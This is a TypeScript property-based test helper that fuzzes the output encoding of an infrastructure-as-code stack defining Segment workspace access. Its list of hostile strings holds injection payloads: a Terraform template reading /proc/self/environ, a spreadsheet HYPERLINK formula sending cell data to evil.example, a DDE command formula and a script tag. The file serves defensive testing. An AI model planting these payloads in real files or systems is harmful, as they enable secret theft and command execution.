import { App } from '../../../framework';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { fc } from '../fast-check-config';
import { AccessLevel, CollaboratorKind, Environment, WorkspaceRole } from '../../../model/enums';
import { NOW_CONTEXT_KEY } from '../../../constructs/synth-clock';
import { SegmentAccessStack } from '../../../stacks/segment-access-stack';
import type { AccessDefinition } from '../../../stacks/access-definition';

/** Strings a hostile contributor would try: templates, formulas, escapes, markup, quotes, boundaries. */
const NASTY = [
  '${file("/proc/self/environ")}',
  '%{ for k, v in {} }x%{ endfor }',
  '$${already}',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)',
  '\tindented',
  '\rcarriage',
  "'=already guarded",
  '\u001b[31mred\u001b[0m\u001b]0;title\u0007',
  '\u202eevil\u202c',
  'a|b|c',
  'line one\nline two\r\nline three',
  '"double" and \'single\' quotes',
  'back\\slash\\',
  '<br><script>alert(1)</script>',
  '&amp; &#x41; &lt;',
  '`code` **bold** _em_ [link](https://x) ~~del~~ $math$ #tag ##',
  '\u0000nul',
  'ünïcödé 漢字 🎉 \ud83d',
  ' padded ',
  '',
  ';semi;colon',
];

/** Any string at all, weighted towards the hostile and the boundary-length. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.array(fc.constantFrom(...NASTY, 'x', ' '), { minLength: 1, maxLength: 4 }).map((parts) => parts.join('')) },
  { weight: 1, arbitrary: fc.constantFrom(1, 9, 10, 63, 64, 65, 128, 129, 253, 254, 255, 2000).map((n) => 'x'.repeat(n)) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
);

/** Local parts and domains at and around RFC 5321's limits, and hostile ones. */
export const hostileEmail: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(64, 65, 200).map((n) => `${'a'.repeat(n)}@agency.example`),
  fc.constantFrom(63, 64).map((n) => `ana@${'d'.repeat(n)}.example`),
  fc.constant(`${'a'.repeat(64)}@${'d'.repeat(63)}.${'e'.repeat(63)}.${'f'.repeat(53)}.example`), // 254 characters
  fc.constant(`${'a'.repeat(64)}@${'d'.repeat(63)}.${'e'.repeat(63)}.${'f'.repeat(54)}.example`), // 255 characters
  fc.emailAddress(),
  hostileString.map((s) => `${s}@agency.example`),
  hostileString,
);

/** Every string field of the definition the generator can fill, with the value a harmless definition uses. */
export const SLOT_DEFAULTS = {
  'workspace.displayName': 'Acme Production',
  'workspace.workspaceId': 'AcmeProdWs1',
  'workspace.slug': 'acme-prod',
  'workspace.tokenEnvVar': 'SEGMENT_PROD_TOKEN',
  'workspace.accessContact': 'it-access@acme.example',
  'workspace.recordPrefix': 'segment-access',
  'workspace.ssoDomain': 'agency.example',
  'workspace.allowedDomain': 'agency.example',
  'workspace.retainEmail': 'breakglass@agency.example',
  'source.id': 'srcWeb01',
  'source.name': 'web',
  'source.labelKey': 'environment',
  'source.labelValue': 'prod',
  'warehouse.id': 'whSnow01',
  'warehouse.name': 'snowflake',
  'collaborator.id': 'Agency',
  'collaborator.email': 'segment@agency.example',
  'collaborator.displayName': 'Agency implementation team',
  'collaborator.organization': 'Agency Ltd',
  'collaborator.requestedBy': 'dana.lee@acme.example',
  'collaborator.approvedBy': 'cto@acme.example',
  'collaborator.ticket': 'ACCESS-1',
  'grant.justification': 'Implements web tracking.',
  'grant.ticket': 'ACCESS-2',
  'grant.requestedBy': 'lee@acme.example',
  'grant.approvedBy': 'ciso@acme.example',
  'grant.expiresOn': '2027-03-31',
  'grant.accessKey': 'Tracking',
  'grant.destinationName': 'Amplitude',
  'override.reason': 'Sets up sources in prod before launch.',
  'person.displayName': 'Priya Shah',
  'person.email': 'priya@agency.example',
  'suppression.reason': 'Permanent staff, reviewed quarterly.',
  'group.groupName': 'Data Engineers',
  'group.justification': 'The data team reads every source.',
} as const;

export type Slot = keyof typeof SLOT_DEFAULTS;
export type Slots = Record<Slot, string>;
export const SLOTS = Object.keys(SLOT_DEFAULTS) as Slot[];

/** A few slots filled with hostile values, the rest harmless. */
export const hostileSlots: fc.Arbitrary<{ readonly slots: Slots; readonly changed: readonly Slot[] }> = fc
  .uniqueArray(fc.constantFrom(...SLOTS), { minLength: 1, maxLength: 3 })
  .chain((changed) =>
    fc.tuple(fc.constant(changed), fc.tuple(...changed.map((slot) => (slot.endsWith('email') || slot.endsWith('Email') ? hostileEmail : hostileString)))),
  )
  .map(([changed, values]) => {
    const slots: Slots = { ...SLOT_DEFAULTS };
    changed.forEach((slot, i) => (slots[slot] = values[i]));
    return { slots, changed };
  });

/** One workspace, a MEMBER with source, label, destination and warehouse access, an environment override, a suppressed warning and a group grant. */
export function definitionFrom(s: Slots): AccessDefinition {
  return {
    workspaces: {
      [Environment.PROD]: {
        workspaceId: s['workspace.workspaceId'],
        slug: s['workspace.slug'],
        displayName: s['workspace.displayName'],
        environment: Environment.PROD,
        tokenEnvVar: s['workspace.tokenEnvVar'],
        accessContact: s['workspace.accessContact'],
        recordPrefix: s['workspace.recordPrefix'],
        sso: { enforced: false, domains: [s['workspace.ssoDomain']] },
        allowedEmailDomains: [s['workspace.allowedDomain']],
        retainEmails: [s['workspace.retainEmail']],
        seatLimit: 40,
        sources: [
          { id: s['source.id'], name: s['source.name'], labels: { [s['source.labelKey']]: s['source.labelValue'] } },
          { id: 'srcIos01', name: 'ios', labels: { environment: 'prod' } },
        ],
        warehouses: [{ id: s['warehouse.id'], name: s['warehouse.name'] }],
      },
    },
    collaborators: [
      {
        id: s['collaborator.id'],
        email: s['collaborator.email'],
        displayName: s['collaborator.displayName'],
        organization: s['collaborator.organization'],
        kind: CollaboratorKind.SERVICE_ACCOUNT,
        requestedBy: s['collaborator.requestedBy'],
        approvedBy: s['collaborator.approvedBy'],
        ticket: s['collaborator.ticket'],
        grant: {
          role: WorkspaceRole.READ_ONLY,
          justification: s['grant.justification'],
          ticket: s['grant.ticket'],
          requestedBy: s['grant.requestedBy'],
          approvedBy: s['grant.approvedBy'],
          expiresOn: s['grant.expiresOn'],
        },
        environments: {
          [Environment.PROD]: {
            reason: s['override.reason'],
            role: WorkspaceRole.MEMBER,
            // The raise keeps the shared grant's audit fields, whose encoding this fixture checks: the
            // separation-of-duties rules are tested on their own (__tests__/policy/separation-of-duties.test.ts).
            suppressions: [
              { ruleId: 'SA-SOD-002', reason: 'Fixture for output encoding, not for approvals.' },
              { ruleId: 'SA-SOD-003', reason: 'Fixture for output encoding, not for approvals.' },
            ],
            sourceAccess: {
              [s['grant.accessKey']]: {
                level: AccessLevel.ADMIN,
                sources: [s['source.name']],
                destinations: [{ name: s['grant.destinationName'], source: s['source.name'] }],
                warehouses: [s['warehouse.name']],
              },
              ByLabel: { level: AccessLevel.READ_ONLY, labels: { [s['source.labelKey']]: s['source.labelValue'] } },
            },
          },
        },
      },
      {
        id: 'Person',
        email: s['person.email'],
        displayName: s['person.displayName'],
        kind: CollaboratorKind.PERSON,
        requestedBy: 'dana.lee@acme.example',
        ticket: 'ACCESS-3',
        grant: { role: WorkspaceRole.READ_ONLY, suppressions: [{ ruleId: 'SA-EXP-003', reason: s['suppression.reason'] }] },
      },
    ],
    groupGrants: [
      {
        id: 'DataTeam',
        groupName: s['group.groupName'],
        grant: { role: WorkspaceRole.READ_ONLY, justification: s['group.justification'], ticket: 'ACCESS-4', requestedBy: 'dana.lee@acme.example' },
      },
    ],
  };
}

export const SYNTH_NOW = '2026-11-27T12:00:00Z';

export interface SynthOutput {
  readonly outdir: string;
  readonly files: ReadonlyMap<string, string>;
}

/** Synthesizes the prod stack of a definition like `cdktf synth`; returns every file written (relative path -> text). */
export function synthDefinition(definition: AccessDefinition): SynthOutput {
  const outdir = mkdtempSync(join(tmpdir(), 'sa-prop-'));
  try {
    const app = new App({ outdir, context: { [NOW_CONTEXT_KEY]: SYNTH_NOW } });
    new SegmentAccessStack(app, 'prod', { definition, environment: Environment.PROD });
    app.synth();
    return { outdir, files: readTree(outdir) };
  } finally {
    rmSync(outdir, { recursive: true, force: true });
  }
}

function readTree(root: string, dir = root): Map<string, string> {
  const out = new Map<string, string>();
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) for (const [k, v] of readTree(root, path)) out.set(k, v);
    else out.set(path.slice(root.length + 1), readFileSync(path, 'utf8'));
  }
  return out;
}
